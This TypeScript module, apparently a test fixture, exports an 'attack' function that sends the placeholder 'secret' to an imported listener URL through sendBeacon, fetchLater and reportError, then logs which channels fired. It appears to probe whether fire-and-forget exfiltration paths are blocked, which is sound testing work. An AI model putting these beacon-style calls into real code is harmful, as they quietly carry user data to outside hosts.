import { listener } from "./listener";

/** Sent when nobody waits for an answer. */
export async function attack() {
  const sent = (navigator as any).sendBeacon?.(`${listener}/beacon`, "secret");
  const later = await (self as any).fetchLater?.(`${listener}/later`, { activateAfter: 0 });
  const reported = (self as any).reportError?.(new Error("secret"));
  console.log(`arrived: ${[sent, later, reported].filter((value) => value !== undefined).join()}`);
}
